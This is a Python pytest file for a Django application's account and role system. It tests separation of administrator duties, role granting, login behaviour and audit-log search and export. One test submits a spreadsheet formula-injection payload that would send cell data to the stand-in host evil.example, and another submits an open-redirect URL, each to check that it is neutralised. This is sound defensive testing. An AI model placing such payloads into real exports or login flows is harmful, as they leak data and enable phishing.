"""Accounts, roles and the 三员分立 rule, through services and pages."""

from __future__ import annotations

import pytest
from django.test import Client

from ningju.accounts import services
from ningju.accounts.choices import Role
from ningju.accounts.models import RoleGrant, User
from ningju.core.errors import DomainError, PermissionDenied
from ningju.core.models import AuditEvent
from ningju.orgs.models import Office
from tests import factories

pytestmark = pytest.mark.django_db


def test_principal_roles_follow_the_member_record(world: factories.World) -> None:
    assert world["member"].principal.roles == {Role.MEMBER}
    assert world["standing"].principal.roles == {Role.MEMBER, Role.STANDING_MEMBER}
    assert world["chair"].principal.roles == {Role.MEMBER, Role.CHAIR_MEETING}
    assert world["director"].principal.roles == {Role.MEMBER, Role.COMMITTEE_DIRECTOR}
    assert world["staff"].principal.roles == {Role.OFFICE_STAFF}
    assert world["public"].principal.roles == {Role.PUBLIC}
    assert world["sysadmin"].principal.roles == {Role.SYSTEM_ADMIN}


@pytest.mark.parametrize(
    ("admin", "extra"),
    [
        ("sysadmin", Role.SECURITY_ADMIN),
        ("secadmin", Role.AUDIT_ADMIN),
        ("auditor", Role.SYSTEM_ADMIN),
        ("auditor", Role.PORTAL_EDITOR),
    ],
)
def test_an_administrator_cannot_take_a_second_role(
    world: factories.World, admin: str, extra: str
) -> None:
    with pytest.raises(DomainError) as error:
        services.role_grant(acting_user=world["secadmin"], user=world[admin], role=extra)
    assert error.value.code == "separation_of_duties"
    assert not RoleGrant.objects.filter(user=world[admin], role=extra).exists()


@pytest.mark.parametrize("username", ["member", "staff", "editor", "unit_officer"])
def test_a_business_user_cannot_become_an_administrator(
    world: factories.World, username: str
) -> None:
    with pytest.raises(DomainError):
        services.role_grant(
            acting_user=world["secadmin"], user=world[username], role=Role.AUDIT_ADMIN
        )


@pytest.mark.parametrize("username", ["sysadmin", "auditor", "staff", "chair"])
def test_only_the_security_admin_grants_roles(world: factories.World, username: str) -> None:
    with pytest.raises(PermissionDenied):
        services.role_grant(
            acting_user=world[username], user=world["editor"], role=Role.OFFICE_STAFF
        )


def test_member_roles_cannot_be_granted_by_hand(world: factories.World) -> None:
    with pytest.raises(DomainError) as error:
        services.role_grant(
            acting_user=world["secadmin"], user=world["editor"], role=Role.CHAIR_MEETING
        )
    assert error.value.code == "role_not_grantable"


def test_security_admin_grants_and_revokes_through_the_page(world: factories.World) -> None:
    client = Client()
    client.force_login(world["secadmin"])
    office = Office.objects.get(organisation=world.prefecture, kind="general")
    editor = world["editor"]
    response = client.post(
        f"/accounts/users/{editor.pk}/roles/", {"role": Role.OFFICE_STAFF, "office": office.pk}
    )
    assert response.status_code == 302
    grant = RoleGrant.objects.get(user=editor, role=Role.OFFICE_STAFF)
    assert AuditEvent.objects.filter(action="role.grant", object_id=str(editor.pk)).exists()
    # Office staff without an office is explained next to the field and changes nothing.
    grant.delete()
    response = client.post(f"/accounts/users/{editor.pk}/roles/", {"role": Role.OFFICE_STAFF})
    assert response.status_code == 200
    assert "请选择本组织的工作机构" in response.content.decode()
    assert not RoleGrant.objects.filter(user=editor, role=Role.OFFICE_STAFF).exists()
    portal = RoleGrant.objects.get(user=editor, role=Role.PORTAL_EDITOR)
    response = client.post(f"/accounts/roles/{portal.pk}/revoke/")
    assert response.status_code == 302
    assert not RoleGrant.objects.filter(pk=portal.pk).exists()
    assert AuditEvent.objects.filter(action="role.revoke").exists()


def test_security_admin_cannot_touch_another_organisations_accounts(world: factories.World) -> None:
    client = Client()
    client.force_login(world["secadmin"])
    response = client.get(f"/accounts/users/{world['county_staff'].pk}/roles/")
    assert response.status_code == 404


def test_system_admin_creates_and_disables_accounts(world: factories.World) -> None:
    client = Client()
    client.force_login(world["sysadmin"])
    response = client.post(
        "/accounts/users/new/",
        {"username": "newstaff", "display_name": "新干部", "kind": "staff", "password": "short"},
    )
    assert response.status_code == 200
    assert not User.objects.filter(username="newstaff").exists()
    assert "密码" in response.content.decode()
    response = client.post(
        "/accounts/users/new/",
        {
            "username": "newstaff",
            "display_name": "新干部",
            "kind": "staff",
            "phone": "13612345678",
            "password": "Ab3!long-enough",
        },
    )
    assert response.status_code == 302
    created = User.objects.get(username="newstaff")
    assert created.organisation == world.prefecture
    assert created.must_change_password
    assert created.principal.roles == frozenset()
    response = client.post(f"/accounts/users/{created.pk}/toggle/")
    created.refresh_from_db()
    assert not created.is_active
    assert AuditEvent.objects.filter(action="account.deactivate").exists()


def test_system_admin_cannot_read_the_audit_trail_or_grant_roles(world: factories.World) -> None:
    client = Client()
    client.force_login(world["sysadmin"])
    assert client.get("/audit/").status_code == 403
    assert client.get("/accounts/roles/").status_code == 403


def test_audit_admin_searches_and_exports(world: factories.World) -> None:
    client = Client()
    client.force_login(world["auditor"])
    page = client.get("/audit/", {"action": "member.create"}).content.decode()
    assert "member.create" in page
    assert "role.grant" not in page
    response = client.get("/audit/export.csv", {"action": "role."})
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert "role.grant" in body
    assert "member.create" not in body
    assert AuditEvent.objects.filter(action="audit.export", actor=world["auditor"]).exists()
    assert "审计链完整" in client.get("/audit/verify/").content.decode()


def test_login_lands_on_the_workspace(world: factories.World) -> None:
    client = Client()
    response = client.post(
        "/accounts/login/", {"username": "staff", "password": factories.PASSWORD}
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/workspace/"


def test_wrong_password_is_explained_and_username_kept(world: factories.World) -> None:
    response = Client().post("/accounts/login/", {"username": "staff", "password": "nope"})
    page = response.content.decode()
    assert "用户名或密码不正确" in page
    assert 'value="staff"' in page


def test_login_rejects_an_open_redirect(world: factories.World) -> None:
    response = Client().post(
        "/accounts/login/?next=https://evil.example/",
        {"username": "staff", "password": factories.PASSWORD, "next": "https://evil.example/"},
    )
    assert response.headers["Location"] == "/workspace/"


def test_audit_export_neutralises_spreadsheet_formulas(world: factories.World) -> None:
    payload = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    Client().post("/accounts/login/", {"username": payload, "password": "x"})
    client = Client()
    client.force_login(world["auditor"])
    response = client.get("/audit/export.csv", {"action": "auth.login_failed"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert "'=HYPERLINK" in body
    assert ",=HYPERLINK" not in body
